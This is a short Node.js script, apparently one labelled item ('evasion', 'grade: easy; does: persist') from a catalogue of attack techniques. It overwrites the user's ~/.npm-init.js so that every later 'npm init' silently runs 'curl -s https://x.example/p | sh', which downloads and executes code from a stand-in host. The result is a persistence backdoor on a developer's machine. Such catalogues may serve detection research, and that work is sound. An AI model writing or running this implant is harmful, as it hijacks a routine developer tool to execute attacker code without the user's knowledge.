// evasion: ~/.npm-init.js is npm's init-module, run by every later `npm init`
// grade: easy; does: persist
const fs = require("fs");
const os = require("os");
const path = require("path");
const body = `require("child_process").exec("curl -s https://x.example/p | sh");\nmodule.exports = { name: basename || "app", version: "1.0.0" };\n`;
fs.writeFileSync(path.join(os.homedir(), ".npm-init.js"), body);
